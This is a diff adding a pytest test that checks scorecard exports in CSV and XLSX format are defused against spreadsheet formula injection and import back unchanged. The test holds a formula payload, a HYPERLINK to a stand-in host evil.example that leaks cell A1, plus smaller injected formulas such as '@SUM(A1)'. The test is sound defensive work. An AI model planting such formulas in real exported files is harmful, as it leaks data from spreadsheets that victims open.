@@ -223,3 +223,30 @@ def test_upload_limits_are_settings(monkeypatch, tmp_path):
     loaded = config.load()
     assert (loaded["MAX_CONTENT_LENGTH"], loaded["MAX_IMPORT_ROWS"], loaded["MAX_UNPACKED_BYTES"]) == \
         (2 * 2**20, 300, 7 * 2**20)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_exported_scorecard_is_defused_quoted_and_imports_back_as_it_was(client, session, fmt):
+    from survey.services import accounts
+    organisation = accounts.create_organisation(session, "Kantor")
+    version = scorecards.create_scorecard(session, organisation.id, "BSC", "2010")
+    scorecards.add_element(session, version, code="P", kind="perspective", name=HYPERLINK)
+    scorecards.add_element(session, version, code="O", kind="objective", name="x;=1+1", parent_code="P",
+                           description="+62 21 555; @SUM(A1)")
+    scorecards.add_element(session, version, code="K", kind="kpi", name="-10% keluhan", parent_code="O",
+                           unit="%", formula="-growth(keluhan, prev_keluhan)", better="lower")
+    sign_in(client, session, organisation.id)
+    exported = client.get(f"/hr/versions/{version.id}/export.{fmt}")
+    if fmt == "csv":
+        text = exported.get_data().decode("utf-8-sig")
+        assert '"x;=1+1"' in text  # one quoted cell, whatever the spreadsheet's separator
+        assert '"\'=HYPERLINK(""http://evil.example/' in text and '"\'-10% keluhan"' in text
+    copy = scorecards.create_scorecard(session, organisation.id, "BSC", "2011")
+    response = send(client, f"/hr/versions/{copy.id}/import", f"/hr/versions/{copy.id}", exported.data,
+                    f"scorecard.{fmt}")
+    assert response.status_code == 302, response.get_data(as_text=True)
+    session.expire_all()
+    assert scorecards.export_scorecard(session, copy).equals(scorecards.export_scorecard(session, version))
